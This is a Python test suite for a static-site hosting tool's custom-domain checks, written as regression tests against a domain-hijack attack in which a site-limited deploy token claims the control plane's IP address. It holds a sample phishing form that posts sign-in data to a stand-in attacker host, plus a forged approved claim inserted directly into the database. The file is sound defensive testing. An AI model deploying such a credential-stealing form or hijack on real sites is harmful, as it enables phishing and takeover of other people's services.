"""Custom domains must be earned: a real `pushsite serve` over HTTP, real CLI subprocesses,
real git pushes and a real DNS server on 127.0.0.1.

The attack these replay: a deploy token limited to site `a` uploaded a bundle whose
pushsite.toml said `domains = ["127.0.0.1"]`; the edge then served the attacker's page on the
control plane's address and every git push stopped deploying (the hook calls back there).
"""

from __future__ import annotations

import json
import os
import re
import sqlite3
import subprocess
import sys
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import httpx
import pytest

from support.dns import txt_server
from support.servers import Server, free_port, serving
from support.sites import git, write_files

ATTACK = "<form action=https://evil.example/steal>Sign in to pushsite</form>"


def _push(repo: Path, server: Server, token: str, site: str) -> subprocess.CompletedProcess[str]:
    url = f"http://x:{token}@127.0.0.1:{server.port}/{site}.git"
    return subprocess.run(["git", "push", url, "HEAD:main"], cwd=repo, capture_output=True,
                          text=True, timeout=120)


def _commit(repo: Path, files: dict[str, str | bytes]) -> None:
    write_files(repo, files)
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "change")


def _remote_deploy(server: Server, folder: Path, site: str,
                   token: str) -> subprocess.CompletedProcess[bytes]:
    return server.cli("deploy", str(folder), "--site", site, "--server", server.url,
                      "--token", token, "--json")


def _api(server: Server, method: str, path: str, token: str) -> httpx.Response:
    return httpx.request(method, f"{server.url}/api{path}", timeout=30,
                         headers={"Authorization": f"Bearer {token}"})


def _control_plane_answers(server: Server) -> None:
    """The control plane still owns its address: health, the sign-in page, no site's page."""
    own = f"127.0.0.1:{server.port}"
    health = server.get(own, "/api/health")
    assert health.status_code == 200 and health.json() == {"ok": True}
    login = server.get(own, "/login")
    assert login.status_code == 200 and ATTACK not in login.text
    assert ATTACK not in server.get(own, "/").text


def _setup_site(server: Server, name: str) -> str:
    """Create a site and a deploy token limited to it; the token's secret."""
    assert server.cli("sites", "create", name).returncode == 0
    return server.new_token("--name", f"{name}-only", "--site", name)


def test_a_site_token_cannot_claim_the_control_planes_address(
        server: Server, make_site: Callable[..., Path],
        make_repo: Callable[..., Path]) -> None:
    token = _setup_site(server, "a")
    attack = make_site({"index.html": ATTACK, "pushsite.toml": 'domains = ["127.0.0.1"]\n'})
    done = _remote_deploy(server, attack, "a", token)
    assert done.returncode == 5, done.stderr
    assert b"127.0.0.1 is an IP address" in done.stderr
    _control_plane_answers(server)
    assert server.cli("domains", "list", "a").stdout == b""  # nothing was claimed
    # every other name the edge or the control plane answers on is refused, saying why
    for host, why in (("localhost", "loopback name"), ("a.localhost", "loopback name"),
                      ("10.0.0.7", "IP address"), ("::1", "IP address")):
        refused = server.cli("domains", "add", "a", host)
        assert refused.returncode == 5 and why.encode() in refused.stderr, (host, refused)
    # git push still deploys: the hook's call-back reaches the control plane
    repo = make_repo({"index.html": "<p>a by git</p>"})
    pushed = _push(repo, server, token, "a")
    assert pushed.returncode == 0, pushed.stderr
    assert "remote: pushsite: production:" in pushed.stderr, pushed.stderr
    assert server.get("a.localhost").text == "<p>a by git</p>"


def test_an_approved_ip_claim_from_an_older_version_is_still_never_served(
        server: Server, make_repo: Callable[..., Path]) -> None:
    """A claim of the control plane's address written before names were checked (or straight
    into the database) changes nothing: the edge maps no IP literal to a site, and the hook's
    call-back is routed before any host is looked at."""
    token = _setup_site(server, "a")
    repo = make_repo({"index.html": ATTACK})
    assert _push(repo, server, token, "a").returncode == 0
    with sqlite3.connect(server.home / "state.db") as db:
        db.execute("INSERT INTO domains (host, site, status, scope, claimed) VALUES "
                   "('127.0.0.1', 'a', 'approved', '', 0)")
    db.close()
    _control_plane_answers(server)
    _commit(repo, {"index.html": "<p>second push</p>"})
    pushed = _push(repo, server, token, "a")
    assert pushed.returncode == 0, pushed.stderr
    assert "remote: pushsite: production:" in pushed.stderr, pushed.stderr
    assert server.get("a.localhost").text == "<p>second push</p>"


def test_the_hook_call_back_is_answered_by_the_control_plane_on_a_sites_own_host(
        server: Server, make_site: Callable[..., Path]) -> None:
    token = _setup_site(server, "a")
    assert _remote_deploy(server, make_site({"index.html": "<p>a</p>"}), "a", token) \
        .returncode == 0
    assert server.cli("domains", "add", "a", "www.a.test").returncode == 0
    assert server.get("www.a.test").text == "<p>a</p>"  # the site answers its host...
    hook = httpx.post(f"{server.url}/internal/post-receive", timeout=10, content=b"{}",
                      headers={"Host": "www.a.test", "X-Pushsite-Hook-Secret": "wrong"})
    assert (hook.status_code, hook.text) == (403, "forbidden\n")  # ...but not the hook's path


def test_a_claim_in_pushsite_toml_is_pending_until_an_admin_approves_it(
        server: Server, make_site: Callable[..., Path]) -> None:
    token = _setup_site(server, "shop")
    folder = make_site({"index.html": "<p>shop</p>",
                        "pushsite.toml": 'domains = ["www.shop.test", "shop.test"]\n'})
    done = _remote_deploy(server, folder, "shop", token)
    assert done.returncode == 0, done.stderr
    deployment = json.loads(done.stdout)
    log = _api(server, "GET", f"/deployments/{deployment['id']}/log", token).json()
    pending = [line["message"] for line in log["lines"] if "is pending" in line["message"]]
    assert len(pending) == 2 and "custom domain www.shop.test is pending" in pending[0]
    assert "`pushsite domains approve shop www.shop.test`" in pending[0]
    assert "_pushsite-challenge.www.shop.test" in pending[0]
    assert server.get("www.shop.test").text != "<p>shop</p>"  # the control plane answers
    claims = _api(server, "GET", "/sites/shop/domains", token).json()["claims"]
    assert [(c["host"], c["status"], c["scope"]) for c in claims] == [
        ("shop.test", "pending", "site:shop"), ("www.shop.test", "pending", "site:shop")]
    # the site's own authority never approves: not its deploy token, not its admin token
    assert _api(server, "POST", "/sites/shop/domains/www.shop.test/approve",
                token).status_code == 403
    site_admin = server.new_token("--name", "shop-admin", "--site", "shop", "--admin")
    assert _api(server, "POST", "/sites/shop/domains/www.shop.test/approve",
                site_admin).status_code == 403
    assert server.get("www.shop.test").text != "<p>shop</p>"
    # the CLI (the admin on the server's machine) approves one...
    approved = server.cli("domains", "approve", "shop", "www.shop.test")
    assert approved.returncode == 0 and b"www.shop.test is approved" in approved.stderr
    assert server.get("www.shop.test").text == "<p>shop</p>"
    assert server.get("shop.test").text != "<p>shop</p>"
    # ...and an admin token for every site the other, through the API
    admin = server.new_token("--name", "admin", "--admin")
    answer = _api(server, "POST", "/sites/shop/domains/shop.test/approve", admin)
    assert answer.status_code == 200
    assert {c["host"]: c["status"] for c in answer.json()["claims"]} == {
        "shop.test": "approved", "www.shop.test": "approved"}
    assert server.get("shop.test").text == "<p>shop</p>"
    # a later deploy of the same pushsite.toml leaves them approved, and logs nothing pending
    again = json.loads(_remote_deploy(server, folder, "shop", token).stdout)
    lines = _api(server, "GET", f"/deployments/{again['id']}/log", token).json()["lines"]
    assert not [line for line in lines if "is pending" in line["message"]]


def test_two_sites_never_share_a_name_even_a_pending_one(
        server: Server, make_site: Callable[..., Path]) -> None:
    first = _setup_site(server, "first")
    second = _setup_site(server, "second")
    toml = {"pushsite.toml": 'domains = ["www.shared.test"]\n', "index.html": "<p>1</p>"}
    assert _remote_deploy(server, make_site(toml), "first", first).returncode == 0
    # pending, and still the first claimer's
    taken = _remote_deploy(server, make_site({**toml, "index.html": "<p>2</p>"}), "second",
                           second)
    assert taken.returncode == 5 and b"site 'first' holds" in taken.stderr, taken.stderr
    added = server.cli("domains", "add", "second", "www.shared.test")
    assert added.returncode == 5 and b"already claimed by site 'first'" in added.stderr
    assert server.cli("domains", "approve", "second", "www.shared.test").returncode == 4
    assert server.cli("domains", "approve", "first", "www.shared.test").returncode == 0
    assert server.get("www.shared.test").text == "<p>1</p>"
    # released, it is the next claimer's
    assert server.cli("domains", "remove", "first", "www.shared.test").returncode == 0
    assert server.cli("domains", "add", "second", "www.shared.test").returncode == 0
    assert server.get("www.shared.test").text != "<p>1</p>"  # second has nothing live
    listed = server.cli("domains", "list", "second").stdout.decode()
    assert listed == "www.shared.test\tapproved\tadmin\n"


@pytest.fixture
def dns_server() -> object:
    with txt_server() as zone_and_address:
        yield zone_and_address


def test_dns_proof_approves_a_claim(tmp_path: Path, make_site: Callable[..., Path],
                                    dns_server: tuple[object, str]) -> None:
    zone, address = dns_server  # type: ignore[misc]
    with serving(tmp_path / "home", extra_env={"PUSHSITE_DNS": address}) as server:
        token = _setup_site(server, "proof")
        folder = make_site({"index.html": "<p>proof</p>",
                            "pushsite.toml": 'domains = ["proof.example.test"]\n'})
        assert _remote_deploy(server, folder, "proof", token).returncode == 0
        challenge = _api(server, "GET", "/sites/proof/domains", token).json()["challenge"]
        assert len(challenge) == 32
        # no record yet, then a record holding something else: not proven, and says what to add
        record = "_pushsite-challenge.proof.example.test"
        missing = server.cli("domains", "verify", "proof", "proof.example.test")
        assert missing.returncode == 2, missing.stderr
        assert f'{record} = "{challenge}"'.encode() in missing.stderr
        zone.records[record] = ["someone-else"]  # type: ignore[attr-defined]
        wrong = _api(server, "POST", "/sites/proof/domains/proof.example.test/verify", token)
        assert wrong.status_code == 400 and "'someone-else'" in wrong.json()["error"]
        assert server.get("proof.example.test").text != "<p>proof</p>"
        # the owner publishes the challenge: the server checks DNS and approves it
        zone.records[record] = ["v=other", challenge]  # type: ignore[attr-defined]
        proven = _api(server, "POST", "/sites/proof/domains/proof.example.test/verify", token)
        assert proven.status_code == 200, proven.text
        assert proven.json()["claims"][0]["status"] == "approved"
        assert server.get("proof.example.test").text == "<p>proof</p>"
        assert record in zone.questions  # type: ignore[attr-defined]


_CSRF = re.compile(r'name="csrf" value="([^"]+)"')


@contextmanager
def _signed_in(server: Server, token: str) -> Iterator[httpx.Client]:
    """A browser session of the dashboard, signed in with `token`."""
    with httpx.Client(base_url=server.url, timeout=30, follow_redirects=False) as browser:
        form = browser.get("/login")
        csrf = _CSRF.search(form.text)
        assert csrf, form.text
        done = browser.post("/login", data={"csrf": csrf.group(1), "token": token,
                                            "next": "/"})
        assert done.status_code == 303, done.text
        yield browser


def test_the_dashboard_approves_for_admin_tokens_only(
        server: Server, make_site: Callable[..., Path]) -> None:
    token = _setup_site(server, "blog")
    folder = make_site({"index.html": "<p>blog</p>",
                        "pushsite.toml": 'domains = ["blog.example.test"]\n'})
    assert _remote_deploy(server, folder, "blog", token).returncode == 0
    action = "/sites/blog/domains/blog.example.test/approve"
    # the site's own token sees the claim pending, with no button, and cannot approve
    with _signed_in(server, token) as own:
        page = own.get("/sites/blog")
        assert 'id="pending-blog.example.test"' in page.text and action not in page.text
        csrf = _CSRF.search(page.text)
        assert csrf
        refused = own.post(action, data={"csrf": csrf.group(1)})
        assert refused.status_code == 403 and "admin token for every site" in refused.text
    assert server.get("blog.example.test").text != "<p>blog</p>"
    with _signed_in(server, server.new_token("--name", "admin", "--admin")) as admin:
        page = admin.get("/sites/blog")
        assert action in page.text
        csrf = _CSRF.search(page.text)
        assert csrf
        stale = admin.post(action, data={"csrf": "stale"})
        assert stale.status_code == 403
        assert server.get("blog.example.test").text != "<p>blog</p>"
        done = admin.post(action, data={"csrf": csrf.group(1)})
        assert (done.status_code, done.headers["location"]) == (303, "/sites/blog")
        assert 'id="pending-blog.example.test"' not in admin.get("/sites/blog").text
    assert server.get("blog.example.test").text == "<p>blog</p>"


def test_verify_says_so_when_dns_does_not_answer(tmp_path: Path) -> None:
    """No DNS answer is an outage (exit 7), not a failed proof; the claim stays pending."""
    env = {**os.environ, "PUSHSITE_DNS": f"127.0.0.1:{free_port()}"}

    def cli(*args: str) -> subprocess.CompletedProcess[bytes]:
        return subprocess.run([sys.executable, "-m", "pushsite", *args], env=env,
                              capture_output=True, timeout=60)

    assert cli("sites", "create", "quiet").returncode == 0
    assert cli("domains", "add", "quiet", "quiet.example.test", "--pending").returncode == 0
    done = cli("domains", "verify", "quiet", "quiet.example.test")
    assert done.returncode == 7, done.stderr
    assert b"DNS did not answer for _pushsite-challenge.quiet.example.test" in done.stderr
    assert cli("domains", "list", "quiet").stdout == b"quiet.example.test\tpending\tadmin\n"
